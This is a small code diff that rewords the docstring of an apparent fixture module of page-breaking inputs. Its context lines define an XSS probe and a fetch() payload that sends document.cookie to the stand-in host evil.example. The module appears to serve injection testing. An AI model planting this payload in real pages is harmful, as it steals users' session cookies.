@@ -1,4 +1,4 @@
-"""Texts that have broken pages elsewhere: as HTML, as Markdown, as addresses, as names."""
+"""Texts that have broken other pages: HTML, Markdown, addresses and names."""
 
 _ALERT = "alert(document.domain)"
 _CALL = "fetch('http://evil.example/?'+document.cookie)"
